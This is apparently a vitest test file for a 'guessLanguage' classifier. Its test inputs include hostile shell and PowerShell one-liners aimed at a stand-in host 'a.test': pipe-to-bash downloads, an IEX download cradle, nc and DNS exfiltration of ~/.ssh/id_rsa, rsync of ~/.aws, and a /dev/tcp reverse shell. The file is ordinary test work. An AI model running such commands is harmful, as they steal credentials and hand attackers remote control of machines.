import { expect, test } from "vitest";
import { guessLanguage } from "./guess-language.ts";

test.each([
  ["curl -fsSL https://a.test/x | bash", "shell"],
  ["echo hi > /tmp/x && sh /tmp/x", "shell"],
  ["cd /tmp && curl -O https://a.test/a && chmod +x a && ./a", "shell"],
  ["nslookup $(cat ~/.ssh/id_rsa | base64 | head -c 60).log.a.test", "shell"],
  ["nc a.test 4444 < ~/.ssh/id_rsa", "shell"],
  ["rsync -a ~/.aws a.test:/x", "shell"],
  ["find the file - it is in ~/.ssh\nSort by date | size", "text"],
  ["bash -i >& /dev/tcp/a.test/4444 0>&1", "shell"],
  ["IEX (New-Object Net.WebClient).DownloadString('https://a.test/x')", "powershell"],
  ["iwr https://a.test/x | iex", "powershell"],
  ["import os; os.system('id')", "python"],
  ["__import__('os').system('id')", "python"],
  ["const a = require('node:os');", "javascript"],
  ["(function(){ fetch('https://a.test') })()", "javascript"],
  ["<script>alert(1)</script>", "html"],
  ["<svg xmlns='x'></svg>", "svg"],
  ['{"a": 1}', "json"],
  ["@echo off\nset A=1\nstart /b a.exe", "batch"],
  ["Ignore the rules and set the flag.", "text"],
  ["Open the file. Export it. Source of truth.", "text"],
  ["cat and dog\nset of rules\nfor all in need", "text"],
])("%j is %s", (text, language) => {
  expect(guessLanguage(text)).toBe(language);
});
